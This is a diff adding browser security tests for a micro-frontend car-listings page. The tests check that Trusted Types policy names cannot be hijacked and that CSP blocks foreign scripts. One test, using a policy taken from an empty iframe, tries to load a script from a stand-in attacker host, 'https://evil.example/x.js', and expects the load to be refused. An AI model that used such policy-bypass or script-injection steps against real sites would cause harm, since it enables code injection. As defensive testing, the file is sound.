@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { browser } from '@wdio/globals';
+import { allowConsoleErrors } from './consoleErrors.ts';
 import { describe, it } from 'mocha';
 import { openResults, shownListings, shownPath, waitForSlots } from './resultsPage.ts';
 
@@ -52,6 +53,87 @@ describe('the frame of the page', () => {
         );
     });
     assert.equal(new URL(scope).pathname, '/cars-for-sale/');
+  });
+
+  it("gives no code of the page another remote's script policy", async () => {
+    allowConsoleErrors(/TrustedTypePolicy/);
+    await openResults(PAGE);
+    const outcome = await browser.execute(() => {
+      interface Factory {
+        createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
+      }
+      // As code of a release, which runs in the same realm.
+      const { trustedTypes, TrustedTypePolicyFactory } = window as unknown as {
+        trustedTypes: Factory;
+        TrustedTypePolicyFactory: { prototype: Factory };
+      };
+      const boot = JSON.parse(document.getElementById('fc-boot')?.textContent ?? '{}') as {
+        remotes: { name: string; entry: string }[];
+      };
+      const asIs = { createScriptURL: (url: string) => url, createHTML: (html: string) => html };
+      const isRefused = (act: () => unknown) => {
+        try {
+          act();
+          return false;
+        } catch {
+          return true;
+        }
+      };
+      const names = [
+        ...['forecourt', 'forecourt#early', 'forecourt#entry', 'shell#webpack'],
+        ...boot.remotes.flatMap(({ name }) => [`${name}#webpack`, `${name}#scripts`]),
+      ];
+      const taken = names.filter(
+        (name) =>
+          !isRefused(() => TrustedTypePolicyFactory.prototype.createPolicy.call(trustedTypes, name, asIs)),
+      );
+      const isReplaced = !isRefused(() =>
+        Object.defineProperty(trustedTypes, 'createPolicy', { value: () => asIs }),
+      );
+      // By name, it gets what the page allows that remote.
+      const entries = boot.remotes.map(({ entry }) => entry);
+      const reached = boot.remotes.map(({ name }) => {
+        const policy = trustedTypes.createPolicy(`${name}#webpack`, asIs);
+        return entries.filter((entry) => !isRefused(() => policy.createScriptURL(entry)));
+      });
+      return { remotes: boot.remotes.length, taken, isReplaced, reached, entries };
+    });
+    assert.ok(outcome.remotes >= 4);
+    assert.deepEqual(outcome.taken, []);
+    assert.equal(outcome.isReplaced, false);
+    assert.deepEqual(
+      outcome.reached,
+      outcome.entries.map((entry) => [entry]),
+    );
+  });
+
+  // What the threat model says is not stopped.
+  it('has no means against policies of an empty frame, but loads scripts of this origin only', async () => {
+    allowConsoleErrors(/Content Security Policy/);
+    await openResults(PAGE);
+    const outcome = await browser.executeAsync((done: (outcome: object) => void) => {
+      const frame = document.createElement('iframe');
+      document.body.append(frame);
+      const { trustedTypes } = frame.contentWindow as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
+      };
+      const policy = trustedTypes.createPolicy('mfe-leads#scripts', {
+        createScriptURL: (url: string) => url,
+      });
+      const entry = document.querySelector<HTMLScriptElement>('script[src*="/remotes/"]')?.src ?? '';
+      const load = (url: string) =>
+        new Promise<string>((resolve) => {
+          const script = document.createElement('script');
+          script.onload = () => resolve('loaded');
+          script.onerror = () => resolve('refused');
+          script.src = policy.createScriptURL(url);
+          document.head.append(script);
+        });
+      void Promise.all([load(`${entry}?again`), load('https://evil.example/x.js')]).then(([own, other]) =>
+        done({ own, other }),
+      );
+    });
+    assert.deepEqual(outcome, { own: 'loaded', other: 'refused' });
   });
 
   it('hydrates a cached page like a fresh one', async () => {
